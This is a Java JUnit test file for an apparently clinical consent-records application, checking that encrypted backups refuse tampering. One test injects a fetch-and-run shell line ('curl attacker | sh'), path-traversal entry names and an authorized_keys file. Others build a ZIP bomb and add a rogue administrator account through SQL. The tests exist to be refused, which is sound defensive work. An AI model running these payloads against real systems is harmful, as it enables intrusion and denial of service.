package org.exoconsent.records;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.LocalDate;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.GZIPInputStream;
import java.util.zip.ZipFile;
import java.util.zip.ZipOutputStream;
import org.exoconsent.pdf.SigningKeys;
import org.exoconsent.testing.Examples;
import org.exoconsent.testing.PreviousRelease;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The data directory in one file, and back (issue 13 §5): encrypted with the administrator's passphrase, checked
 * when written, and before anything is restored checked for known paths, sizes, its sums, its accounts and the
 * key the administrator confirms; an old unencrypted backup still restores, said to be unencrypted.
 */
class BackupTest {
    static final char[] PASSPHRASE = "a long backup passphrase".toCharArray();

    @TempDir
    Path tmp;
    DataDirectory dir;

    @BeforeEach
    void aClinicWithTwoConsentsAndAWithdrawal() throws Exception {
        dir = new DataDirectory(tmp.resolve("data"));
        // set up once per JVM, copied into each test (TestAccounts#copied)
        if (!TestAccounts.copied(dir, "BackupTest: two consents and a withdrawal", Examples.CLOCK,
                BackupTest::twoConsentsAndAWithdrawal)) {
            twoConsentsAndAWithdrawal(dir);
        }
    }

    private static void twoConsentsAndAWithdrawal(DataDirectory dir) throws Exception {
        try (RecordStore store = TestAccounts.open(dir, Examples.CLOCK, "test")) {
            TestAccounts.record(store, Examples.session("complete-ja"), Examples.template(), Examples.key(), "ja");
            RecordStore.Recorded en = TestAccounts.record(store, Examples.session("complete-en"), Examples.template(),
                    Examples.key(), "en");
            store.withdraw(en.id(), LocalDate.parse("2026-11-21"), "changed their mind", "reception", null,
                    Examples.key());
            store.addUser("reception", EnumSet.of(Role.STAFF), null, "reception password".toCharArray());
        }
    }

    private RecordStore.BackupFile backup(Path out) throws StoreException {
        try (RecordStore store = TestAccounts.open(dir, Examples.CLOCK, "test")) {
            return store.backup(out, PASSPHRASE);
        }
    }

    /** The fingerprint of the key the examples are signed with, as the administrator keeps it. */
    private static String examplesKey() {
        return SigningKeys.fingerprint(Examples.key().certificate());
    }

    private static RestoreOptions confirmed(String... fingerprints) {
        return RestoreOptions.of(PASSPHRASE, List.of(fingerprints));
    }

    /** Whatever a restore into {@code target} left beside it (its staging folders are hidden siblings). */
    private List<String> leftBeside(Path target) throws IOException {
        try (Stream<Path> s = Files.list(target.getParent())) {
            return s.map(p -> p.getFileName().toString()).filter(n -> n.startsWith("." + target.getFileName()))
                    .toList();
        }
    }

    @Test
    void aBackupIsEncryptedAndRestoresIntoANewFolderWithEveryRecordAccountAndTheAuditChain() throws Exception {
        Path file = tmp.resolve("backup.zip");
        RecordStore.BackupFile b = backup(file);
        assertEquals(RecordStore.sha256(Files.readAllBytes(file)), b.sha256());
        assertEquals(BackupFormat.Kind.ENCRYPTED, BackupFormat.of(file));
        assertThrows(java.util.zip.ZipException.class, () -> new ZipFile(file.toFile()).close(),
                "not readable as a ZIP without the passphrase");
        String bytes = new String(Files.readAllBytes(file), StandardCharsets.ISO_8859_1);
        assertFalse(bytes.contains("exoconsent.db") || bytes.contains("SHA256SUMS") || bytes.contains("%PDF"),
                "not even the names of the files are readable");
        assertEquals(List.of(), Backup.check(file, PASSPHRASE));

        DataDirectory restored = new DataDirectory(tmp.resolve("restored"));
        RecordStore.Restored r = RecordStore.restore(file, restored, Examples.CLOCK, confirmed(examplesKey()));
        assertEquals(2, r.records(), "both consents");
        assertEquals(1, r.verification().withdrawals(), "and the withdrawal");
        assertEquals(BackupFormat.Kind.ENCRYPTED, r.kind());
        assertTrue(r.verification().ok(), "records verify ran on the restored store: " + r.verification());
        assertEquals("2 records and 1 withdrawal checked", r.verification().checked());
        assertEquals(2, r.notChecked().size(), r.notChecked().toString());
        assertTrue(r.notChecked().get(0).startsWith("the backup holds no signing key of its own"), r.notChecked()
                .get(0));
        assertTrue(r.notChecked().get(1).startsWith("the audit trail was not compared with an anchor"),
                r.notChecked().get(1));
        try (RecordStore store = RecordStore.signIn(restored, Examples.CLOCK, "reception",
                "reception password".toCharArray(), "test")) {
            assertEquals("reception", store.principal().name(), "the accounts came with it");
        }
        try (RecordStore store = TestAccounts.open(restored, Examples.CLOCK, "test")) {
            assertEquals(2, store.count(RecordFilter.ALL), "both consents (and the withdrawal, below)");
            assertTrue(store.verify((d, t) -> { }).ok(), "records, signatures and the audit chain");
            assertEquals(List.of("active", "withdrawn"), store.list(RecordFilter.ALL, 0, 10).stream()
                    .map(RecordRow::status).sorted().toList());
        }
        assertEquals(List.of(), leftBeside(restored.root()), "no staging folder is left");
    }

    /**
     * A file in the archive that no record names (left by an interrupted recording, or put there by hand) is not a
     * record and is not carried into the backup: the backup restores (before issue 15 it copied the file without the
     * intent marker that explains it, and the restore then refused the backup as not intact), while the data
     * directory keeps the file and records verify there still names it.
     */
    @Test
    void aFileNoRecordNamesStaysInTheDataDirectoryAndDoesNotStopTheRestore() throws Exception {
        Path orphan = dir.archive().resolve("2026/11/CS-ORPHAN-0001.pdf");
        Files.createDirectories(orphan.getParent());
        org.exoconsent.files.OwnerOnly.write(orphan, "%PDF-1.7 orphan".getBytes(StandardCharsets.US_ASCII));
        Path file = tmp.resolve("backup.zip");
        backup(file);
        DataDirectory restored = new DataDirectory(tmp.resolve("restored"));
        RecordStore.Restored r = RecordStore.restore(file, restored, Examples.CLOCK, confirmed(examplesKey()));
        assertTrue(r.verification().ok(), r.verification().toString());
        assertEquals(2, r.records(), "both consents");
        assertEquals(1, r.verification().withdrawals(), "and the withdrawal");
        assertFalse(Files.exists(restored.archive().resolve("2026/11/CS-ORPHAN-0001.pdf")));
        try (RecordStore store = TestAccounts.open(dir, Examples.CLOCK, "test")) {
            assertEquals(List.of("'" + dir.archive().relativize(orphan).toString().replace('\\', '/') + "' in "
                    + dir.archive()), store.verify((d, t) -> { }).orphans(), "still named where it is");
        }
    }

    /**
     * A document the index names that cannot be copied (here: deleted by hand; another account's file, a FIFO or a
     * name a restore does not take back are the same kind) is named by the backup, which is written without it and
     * says it will not restore until it is found — never "checked" and silent (attack review of issue 15).
     */
    @Test
    void aDocumentTheIndexNamesThatCannotBeCopiedIsNamedAndTheBackupIsNotSaidWhole() throws Exception {
        Path pdf;
        try (Stream<Path> s = Files.walk(dir.archive())) {
            pdf = s.filter(p -> p.toString().endsWith(".pdf")).sorted().findFirst().orElseThrow();
        }
        Files.delete(pdf);
        RecordStore.BackupFile b = backup(tmp.resolve("backup.zip"));
        assertFalse(b.whole());
        String name = "archive/" + dir.archive().relativize(pdf).toString().replace('\\', '/');
        assertEquals(List.of(name + ": the index names it, but it is missing"), b.leftOut());
        StoreException refused = assertThrows(StoreException.class, () -> RecordStore.restore(tmp.resolve(
                "backup.zip"), new DataDirectory(tmp.resolve("restored")), Examples.CLOCK, confirmed(examplesKey())));
        assertTrue(refused.getMessage().contains("the archived PDF is missing"), refused.getMessage());
    }

    /**
     * Review of 2026-12-02: an account's roles and who made the template version active, changed with sqlite3, made a
     * backup that said it was whole (exit 0) and whose restore then refused it. The backup now names what the restore
     * will refuse, as the trail disagrees with it, and says it will not restore; the restore refuses the same.
     */
    @Test
    void rowsTheAuditTrailDisagreesWithAreNamedByTheBackupAsTheRestoreWillRefuseThem() throws Exception {
        try (java.sql.Connection c = java.sql.DriverManager.getConnection("jdbc:sqlite:" + dir.database());
             java.sql.Statement st = c.createStatement()) { // as with sqlite3
            st.executeUpdate("UPDATE account SET roles = 'staff,administrator' WHERE name = 'reception'");
            st.executeUpdate("UPDATE template_active SET activated_by = 'reception [staff]'");
        }
        RecordStore.BackupFile b = backup(tmp.resolve("backup.zip"));
        assertTrue(Files.isRegularFile(b.file()), "written all the same: the clinic's copy");
        assertFalse(b.restores(), "said not to restore: " + b);
        assertTrue(b.damaged().stream().anyMatch(d -> d.startsWith("account reception: holds the roles "
                + "staff,administrator, but the audit trail gave it staff")), "" + b.damaged());
        assertTrue(b.damaged().stream().anyMatch(d -> d.contains("is stored as made active by 'reception [staff]'")),
                "" + b.damaged());
        StoreException refused = assertThrows(StoreException.class, () -> RecordStore.restore(b.file(),
                new DataDirectory(tmp.resolve("restored")), Examples.CLOCK, confirmed(examplesKey())));
        assertTrue(refused.getMessage().contains("account reception: holds the roles staff,administrator"),
                refused.getMessage());
    }

    @Test
    void withoutAConfirmedFingerprintTheRestoreSaysWhatItCouldNotCheck() throws Exception {
        Path file = tmp.resolve("backup.zip");
        backup(file);
        RecordStore.Restored r = RecordStore.restore(file, new DataDirectory(tmp.resolve("restored")),
                Examples.CLOCK, RestoreOptions.of(PASSPHRASE, List.of()));
        assertEquals("the backup's signing key was not confirmed by you (--expect-fingerprint): an attacker who "
                + "made this backup could have added accounts or changed records and signed them with a key of their "
                + "own", r.notChecked().get(0));
    }

    @Test
    void aShortPassphraseIsRefusedBeforeAnythingIsWritten() throws Exception {
        Path file = tmp.resolve("backup.zip");
        try (RecordStore store = TestAccounts.open(dir, Examples.CLOCK, "test")) {
            IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
                    () -> store.backup(file, "eleven char".toCharArray()));
            assertEquals("the backup passphrase is too short: 11 characters; use at least 12; nothing was written",
                    e.getMessage());
            assertThrows(IllegalArgumentException.class, () -> store.backup(file, null));
        }
        assertFalse(Files.exists(file));
        try (Stream<Path> s = Files.list(tmp)) {
            assertEquals(List.of(), s.filter(p -> p.getFileName().toString().startsWith(".")).toList(),
                    "no temporary file either");
        }
    }

    @Test
    void aWrongPassphraseIsSaidPlainlyAndNothingIsRestored() throws Exception {
        Path file = tmp.resolve("backup.zip");
        backup(file);
        DataDirectory target = new DataDirectory(tmp.resolve("restored"));
        AccessDeniedException e = assertThrows(AccessDeniedException.class, () -> RecordStore.restore(file, target,
                Examples.CLOCK, RestoreOptions.of("not the passphrase".toCharArray(), List.of())));
        assertEquals(file + ": the passphrase does not open this backup; nothing was restored", e.getMessage());
        assertFalse(Files.exists(target.root()));
        assertEquals(List.of(), leftBeside(target.root()));
        assertEquals(List.of(file + ": the passphrase does not open this backup"),
                Backup.check(file, "not the passphrase".toCharArray()));
    }

    @Test
    void anEncryptedBackupAlteredOrCutShortIsRefusedAndNothingIsRestored() throws Exception {
        Path file = tmp.resolve("backup.zip");
        backup(file);
        byte[] good = Files.readAllBytes(file);
        for (int at : new int[] {good.length / 2, good.length - 5}) {
            byte[] bad = good.clone();
            bad[at] ^= 1;
            Path altered = tmp.resolve("altered-" + at + ".zip");
            Files.write(altered, bad);
            DataDirectory target = new DataDirectory(tmp.resolve("restored-" + at));
            RefusedException e = assertThrows(RefusedException.class, () -> RecordStore.restore(altered, target,
                    Examples.CLOCK, confirmed(examplesKey())));
            assertTrue(e.getMessage().startsWith(altered + ": was altered or cut short after it was written"),
                    e.getMessage());
            assertFalse(Files.exists(target.root()));
            assertEquals(List.of(), leftBeside(target.root()));
        }
        Path cut = tmp.resolve("cut.zip");
        Files.write(cut, java.util.Arrays.copyOf(good, good.length - 100));
        RefusedException e = assertThrows(RefusedException.class, () -> RecordStore.restore(cut,
                new DataDirectory(tmp.resolve("restored-cut")), Examples.CLOCK, confirmed(examplesKey())));
        assertTrue(e.getMessage().contains("was altered or cut short"), e.getMessage());
    }

    @Test
    void anOldUnencryptedBackupStillRestoresAndIsSaidToBeUnencrypted() throws Exception {
        DataDirectory restored = new DataDirectory(tmp.resolve("from-1.2.0"));
        RecordStore.Restored r = RecordStore.restore(PreviousRelease.BACKUP_1_2_0, restored, Examples.CLOCK);
        assertEquals(BackupFormat.Kind.UNENCRYPTED, r.kind());
        assertEquals(PreviousRelease.RECORDS_1_2_0.size(), r.records() + r.verification().withdrawals(),
                "every record and withdrawal of that release");
        assertTrue(r.notChecked().get(0).startsWith("this backup is not encrypted (made by an earlier release, or "
                + "by anyone who held it)"), r.notChecked().get(0));
        try (RecordStore store = RecordStore.signIn(restored, Examples.CLOCK, "admin",
                "admin-password-1".toCharArray(), "test")) {
            assertTrue(store.verify((d, t) -> { }).ok());
        }
    }

    @Test
    void anOldUnencryptedBackupCutShortIsRefusedNamingTheEntry() throws Exception {
        byte[] whole = Files.readAllBytes(PreviousRelease.BACKUP_1_2_0);
        Path cut = tmp.resolve("cut.zip");
        Files.write(cut, java.util.Arrays.copyOf(whole, whole.length * 6 / 10));
        DataDirectory target = new DataDirectory(tmp.resolve("restored"));
        RefusedException e = assertThrows(RefusedException.class, () -> RecordStore.restore(cut, target,
                Examples.CLOCK));
        assertTrue(e.getMessage().matches("(?s)" + Pattern.quote(cut + ": the entry archive/2026/11/")
                + ".*\\.pdf cannot be read \\(damaged or cut short\\).*nothing was restored\\."), e.getMessage());
        assertFalse(Files.exists(target.root()));
        assertEquals(List.of(), leftBeside(target.root()));
    }

    /** The administrator's fingerprint of the 1.2.0 fixture's own (self-signed) clinic key. */
    private static String fixtureKey() throws Exception {
        return SigningKeys.fingerprint(SigningKeys.existingSelfSigned(new DataDirectory(PreviousRelease.V1_2_0).keyFiles()).certificate());
    }

    @Test
    void aBackupWithAnAddedAdministratorAndAChangedAddressIsRefusedWithTheConfirmedFingerprint() throws Exception {
        Map<String, byte[]> entries = LegacyBackup.read(PreviousRelease.BACKUP_1_2_0);
        entries.put(DataDirectory.DATABASE, LegacyBackup.editDatabase(entries.get(DataDirectory.DATABASE), tmp,
                "INSERT INTO account (name, roles, password_hash, created_at) VALUES ('mallory', 'administrator', '"
                        + Passwords.hash("mallory's password".toCharArray()) + "', '2026-11-30T00:00:00Z')",
                "UPDATE record SET patient_address = '1-1 Attacker Street' WHERE id = '"
                        + PreviousRelease.FIRST_JA_1_2_0 + "'",
                "UPDATE clinic SET address = '1-1 Attacker Street'"));
        Path tampered = tmp.resolve("tampered.zip");
        LegacyBackup.zip(entries, LegacyBackup.sums(entries), tampered);

        DataDirectory target = new DataDirectory(tmp.resolve("restored"));
        RefusedException e = assertThrows(RefusedException.class, () -> RecordStore.restore(tampered, target,
                Examples.CLOCK, RestoreOptions.of(null, List.of(fixtureKey()))));
        assertTrue(e.getMessage().contains("account mallory (administrator): the audit trail never added it (no "
                + "'user-added' entry)"), e.getMessage());
        assertTrue(e.getMessage().endsWith("Nothing was restored."), e.getMessage());
        assertFalse(Files.exists(target.root()));
        assertThrows(StoreException.class, () -> RecordStore.signIn(target, Examples.CLOCK, "mallory",
                "mallory's password".toCharArray(), "test").close(), "the attacker's administrator cannot sign in");
    }

    @Test
    void aBackupSignedWithAnotherKeyThanTheOneConfirmedIsRefusedNamingTheKeyAndEachDocument() throws Exception {
        Path file = tmp.resolve("backup.zip");
        backup(file);
        String other = "AB".repeat(32);
        DataDirectory target = new DataDirectory(tmp.resolve("restored"));
        RefusedException e = assertThrows(RefusedException.class, () -> RecordStore.restore(file, target,
                Examples.CLOCK, confirmed(other)));
        String fp = examplesKey().replace(":", "");
        assertEquals(3, e.getMessage().split(": signed by a key you did not confirm \\(.*SHA-256 " + fp + "\\)", -1)
                .length - 1, e.getMessage());
        assertFalse(Files.exists(target.root()));

        // the fixture carries its key: that key itself is named
        RefusedException fixture = assertThrows(RefusedException.class, () -> RecordStore.restore(
                PreviousRelease.BACKUP_1_2_0, new DataDirectory(tmp.resolve("r2")), Examples.CLOCK,
                RestoreOptions.of(null, List.of(other))));
        assertTrue(fixture.getMessage().contains("keys/: the backup's signing key (") && fixture.getMessage()
                .contains(fixtureKey().replace(":", "") + ") is not one you confirmed"), fixture.getMessage());
        IllegalArgumentException typo = assertThrows(IllegalArgumentException.class,
                () -> RestoreOptions.of(PASSPHRASE, List.of("AB:CD")));
        assertTrue(typo.getMessage().startsWith("--expect-fingerprint: 'AB:CD' is not a SHA-256 fingerprint"),
                typo.getMessage());
    }

    /** The seam for the anchor of issue 13 §3: the restored trail must hold the head an anchor recorded. */
    @Test
    void aRestoreGivenAnAnchoredHeadRefusesABackupWhoseTrailDoesNotHoldIt() throws Exception {
        // the newest head when the backup is taken, as an anchor would keep it (the backup's own backup-created
        // entry follows it)
        String atBackup = Files.readString(dir.auditHead()).strip().split(" ")[1];
        Path file = tmp.resolve("backup.zip");
        backup(file);
        try (RecordStore store = TestAccounts.open(dir, Examples.CLOCK, "test")) {
            store.setSetting(Settings.Key.IDLE_LOCK_MINUTES, 20); // one more audited change after the backup
        }
        String later = Files.readString(dir.auditHead()).strip().split(" ")[1];
        DataDirectory rolledBack = new DataDirectory(tmp.resolve("rolled-back"));
        RefusedException e = assertThrows(RefusedException.class, () -> RecordStore.restore(file, rolledBack,
                Examples.CLOCK, new RestoreOptions(PASSPHRASE, Set.of(examplesKey()), later)));
        assertTrue(e.getMessage().contains("audit trail: does not hold the anchored head " + later + "; the backup "
                + "is older than the anchor or its trail was rewritten"), e.getMessage());
        assertFalse(Files.exists(rolledBack.root()));
        RecordStore.Restored r = RecordStore.restore(file, new DataDirectory(tmp.resolve("current")),
                Examples.CLOCK, new RestoreOptions(PASSPHRASE, Set.of(examplesKey()), atBackup));
        assertEquals(List.of("the backup holds no signing key of its own (the clinic signs with a key kept "
                + "elsewhere); only the documents' signatures were compared with the fingerprints you gave"),
                r.notChecked(), "the anchor was compared: not listed as unchecked");
    }

    @Test
    void extraFilesInABackupAreRefusedNamingTheEntry() throws Exception {
        for (String extra : List.of("run.sh", "exoconsent.properties", "keys/authorized_keys",
                "archive/2026/11/notes.txt", "templates/1.2.0/exosome-therapy/../../../evil.yaml")) {
            Map<String, byte[]> entries = LegacyBackup.read(PreviousRelease.BACKUP_1_2_0);
            entries.put(extra, "#!/bin/sh\ncurl attacker | sh\n".getBytes(StandardCharsets.UTF_8));
            Path bad = tmp.resolve("extra.zip");
            Files.deleteIfExists(bad);
            LegacyBackup.zip(entries, LegacyBackup.sums(entries), bad);
            DataDirectory target = new DataDirectory(tmp.resolve("restored"));
            RefusedException e = assertThrows(RefusedException.class, () -> RecordStore.restore(bad, target,
                    Examples.CLOCK));
            assertTrue(e.getMessage().startsWith(bad + ": the entry '" + extra + "' is not a file a data directory "
                    + "holds"), e.getMessage());
            assertFalse(Files.exists(target.root()), extra);
            assertEquals(List.of(), leftBeside(target.root()), extra);
        }
    }

    @Test
    void filesBesideTheTemplateLibraryAreLeftOutAndSaidToBe() throws Exception {
        Map<String, byte[]> entries = LegacyBackup.read(PreviousRelease.BACKUP_1_2_0);
        entries.put("templates/9.9.9/exosome-therapy/run.sh", "#!/bin/sh\n".getBytes(StandardCharsets.UTF_8));
        Path file = tmp.resolve("beside.zip");
        LegacyBackup.zip(entries, LegacyBackup.sums(entries), file);
        DataDirectory target = new DataDirectory(tmp.resolve("restored"));
        RecordStore.Restored r = RecordStore.restore(file, target, Examples.CLOCK);
        assertTrue(r.notChecked().contains("templates/9.9.9/exosome-therapy/ was left out: no template version of "
                + "the database is stored there, so nothing would ever use or check it"), r.notChecked().toString());
        assertFalse(Files.exists(target.root().resolve("templates/9.9.9")));
        assertTrue(Files.exists(target.root().resolve("templates/1.2.0/exosome-therapy/ja.yaml")));
    }

    /**
     * A ZIP of one entry, {@code archive/2026/11/0a0a0a0a-bomb.pdf}: 1 GiB of zeros that {@link ZipOutputStream} at
     * level 9 deflated to 1 MiB, the ZIP then gzipped (2 KB). Made once (Nov 2026) rather than at each run, where
     * deflating and hashing the gigabyte cost seconds: {@code zip.setLevel(9); zip.putNextEntry(new ZipEntry(NAME));}
     * then 1,024 writes of 1 MiB of zeros. The test checks it is still that.
     */
    static final Path ZIP_BOMB = Path.of("src/test/resources/backup/zip-bomb.zip.gz");
    /** SHA-256 of 1 GiB (2^30 bytes) of zeros, as {@code head -c 1G /dev/zero | sha256sum} gives it. */
    static final String SHA256_OF_1_GIB_OF_ZEROS = "49bc20df15e412a64472421e13fe86ff1c5165e18b2afccf160d4dc19fe68a14";
    /** CRC-32 of 1 GiB of zeros, as {@code unzip -v} shows it for the bomb's entry. */
    static final long CRC32_OF_1_GIB_OF_ZEROS = 0x5b64c2b0L;

    @Test
    void aZipBombIsRefusedEarlyWithoutWritingAGigabyte() throws Exception {
        Map<String, byte[]> entries = LegacyBackup.read(PreviousRelease.BACKUP_1_2_0);
        String bombName = "archive/2026/11/0a0a0a0a-bomb.pdf";
        byte[] bombZip;
        try (InputStream in = new GZIPInputStream(Files.newInputStream(ZIP_BOMB))) {
            bombZip = in.readAllBytes();
        }
        Path bombAlone = tmp.resolve("bomb-alone.zip");
        Files.write(bombAlone, bombZip);
        try (ZipFile z = new ZipFile(bombAlone.toFile())) {
            ZipEntry e = z.getEntry(bombName);
            assertEquals(1, z.size(), "the bomb alone");
            assertEquals(1L << 30, e.getSize(), "it expands to 1 GiB");
            assertEquals(CRC32_OF_1_GIB_OF_ZEROS, e.getCrc(), "of zeros");
            assertTrue(e.getCompressedSize() < 1_100_000, "from 1 MiB: " + e.getCompressedSize());
        }
        String sums = new String(LegacyBackup.sums(entries), StandardCharsets.UTF_8)
                + SHA256_OF_1_GIB_OF_ZEROS + "  " + bombName + "\n";
        Path bomb = tmp.resolve("bomb.zip");
        // the release's entries, the bomb, then the sums that name it: one ZIP, as a backup is written
        LegacyBackup.join(List.of(LegacyBackup.zipOf(entries), bombZip,
                LegacyBackup.zipOf(Map.of("SHA256SUMS", sums.getBytes(StandardCharsets.UTF_8)))), bomb);
        try (ZipFile z = new ZipFile(bomb.toFile())) {
            assertEquals(entries.size() + 2, z.size(), "a well-formed ZIP of every entry");
            assertEquals(1L << 30, z.getEntry(bombName).getSize());
        }
        assertTrue(Files.size(bomb) < 3_000_000, "a small file: " + Files.size(bomb));

        DataDirectory target = new DataDirectory(tmp.resolve("restored"));
        RefusedException e = assertThrows(RefusedException.class, () -> RecordStore.restore(bomb, target,
                Examples.CLOCK));
        Matcher m = Pattern.compile(Pattern.quote(bomb + ": the entry " + bombName + " expands more than 100 times "
                + "its compressed size (the limit; a ZIP bomb?): stopped after ") + "(\\d+) bytes; nothing was "
                + "restored\\.").matcher(e.getMessage());
        assertTrue(m.matches(), e.getMessage());
        assertTrue(Long.parseLong(m.group(1)) < 2 * 1024 * 1024, "stopped within the first 2 MiB: " + m.group(1));
        assertFalse(Files.exists(target.root()));
        assertEquals(List.of(), leftBeside(target.root()), "what was written is gone");
    }

    @Test
    void aMalformedSha256sumsLineIsRefusedNamingTheLine() throws Exception {
        Map<String, byte[]> entries = LegacyBackup.read(PreviousRelease.BACKUP_1_2_0);
        String good = new String(LegacyBackup.sums(entries), StandardCharsets.UTF_8);
        String[] lines = good.split("\n");
        for (String[] bad : new String[][] {
            {"abc", "line 2: 'abc' is not '<64 hex digits>  <file>'"},
            {lines[1].replace("  ", " "), "line 2: '" + lines[1].replace("  ", " ")
                + "' is not '<64 hex digits>  <file>'"},
            {lines[1].substring(0, 66) + "../outside.sh", "line 2: '../outside.sh' is not a file a data directory "
                + "holds"}}) {
            lines[1] = bad[0];
            Path file = tmp.resolve("bad-sums.zip");
            Files.deleteIfExists(file);
            LegacyBackup.zip(entries, (String.join("\n", lines) + "\n").getBytes(StandardCharsets.UTF_8), file);
            DataDirectory target = new DataDirectory(tmp.resolve("restored"));
            RefusedException e = assertThrows(RefusedException.class, () -> RecordStore.restore(file, target,
                    Examples.CLOCK));
            assertTrue(e.getMessage().startsWith(file + ": SHA256SUMS " + bad[1]), e.getMessage());
            assertFalse(Files.exists(target.root()));
            lines = good.split("\n");
        }
    }

    @Test
    void aRestoreRefusesAFolderThatIsNotEmptyAndNeverDeletesWhatItDidNotCreate() throws Exception {
        Path file = tmp.resolve("backup.zip");
        backup(file);
        Path target = tmp.resolve("restored");
        Files.createDirectories(target);
        Files.writeString(target.resolve("notes.txt"), "the clinic's notes");
        Path beside = tmp.resolve("restored.restoring"); // a folder of the administrator's, named as staging was
        Files.createDirectories(beside);
        Files.writeString(beside.resolve("precious.txt"), "keep me");

        ConflictException over = assertThrows(ConflictException.class, () -> RecordStore.restore(file,
                new DataDirectory(target), Examples.CLOCK, confirmed(examplesKey())));
        assertEquals(target + ": is not empty; a backup is restored only into a new folder, never over existing data",
                over.getMessage());
        try (Stream<Path> s = Files.list(target)) {
            assertEquals(List.of(target.resolve("notes.txt")), s.toList());
        }
        assertEquals("the clinic's notes", Files.readString(target.resolve("notes.txt")));

        Files.delete(target.resolve("notes.txt")); // now empty: the administrator's own folder is used, and kept
        assertThrows(AccessDeniedException.class, () -> RecordStore.restore(file, new DataDirectory(target),
                Examples.CLOCK, RestoreOptions.of("not the passphrase".toCharArray(), List.of())));
        assertTrue(Files.isDirectory(target), "a failed restore leaves the empty folder it was given");
        RecordStore.restore(file, new DataDirectory(target), Examples.CLOCK, confirmed(examplesKey()));
        assertTrue(Files.exists(target.resolve(DataDirectory.DATABASE)));
        assertEquals("keep me", Files.readString(beside.resolve("precious.txt")), "nothing of anyone else's deleted");
        assertEquals(List.of(), leftBeside(target));

        ConflictException overData = assertThrows(ConflictException.class, () -> RecordStore.restore(file, dir,
                Examples.CLOCK, confirmed(examplesKey())));
        assertTrue(overData.getMessage().contains("is not empty"), overData.getMessage());
        try (RecordStore store = TestAccounts.open(dir, Examples.CLOCK, "test")) {
            assertTrue(store.verify((d, t) -> { }).ok(), "the existing data directory is untouched");
        }
        byte[] before = Files.readAllBytes(file);
        assertThrows(RefusedException.class, () -> backup(file));
        assertTrue(java.util.Arrays.equals(before, Files.readAllBytes(file)), "an existing file is kept");
    }

    @Test
    void onlyAnAdministratorMayBackUp() throws Exception {
        try (RecordStore staff = RecordStore.signIn(dir, Examples.CLOCK, "reception",
                "reception password".toCharArray(), "test")) {
            AccessDeniedException e = assertThrows(AccessDeniedException.class,
                    () -> staff.backup(tmp.resolve("mine.zip"), PASSPHRASE));
            assertTrue(e.getMessage().contains("may not back up the data directory"), e.getMessage());
            assertNull(staff.backupReminder(), "nor are they reminded");
        }
        assertFalse(Files.exists(tmp.resolve("mine.zip")));
    }

    @Test
    void theBackupReminderIsDueOnceTheLastBackupIsOlderThanTheClinicsSetting() throws Exception {
        Clock day0 = Examples.CLOCK;
        Clock day7 = Clock.offset(day0, Duration.ofDays(7));
        Clock day8 = Clock.offset(day0, Duration.ofDays(8));
        try (RecordStore store = TestAccounts.open(dir, day8, "test")) {
            BackupReminder never = store.backupReminder();
            assertEquals(new BackupReminder(null, 8, 7), never, "never backed up, and the clinic began 8 days ago");
        }
        backup(tmp.resolve("backup.zip")); // on day 0
        try (RecordStore store = TestAccounts.open(dir, day7, "test")) {
            assertNull(store.backupReminder(), "7 days: not older than the setting");
        }
        try (RecordStore store = TestAccounts.open(dir, day8, "test")) {
            assertEquals(new BackupReminder(day0.instant(), 8, 7), store.backupReminder());
            store.setSetting(Settings.Key.BACKUP_REMINDER_DAYS, 30);
            assertNull(store.backupReminder(), "the clinic's own setting");
            IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
                    () -> store.setSetting(Settings.Key.BACKUP_REMINDER_DAYS, 0));
            assertEquals("backup-reminder-days: 0 is outside 1 to 365 days", e.getMessage());
            assertEquals(30, store.settings().get(Settings.Key.BACKUP_REMINDER_DAYS));
            assertEquals(Set.of("reflection-minutes", "idle-lock-minutes", "backup-reminder-days", "time-zone",
                    "anchor"), Set.copyOf(Settings.names()));
        }
    }
}
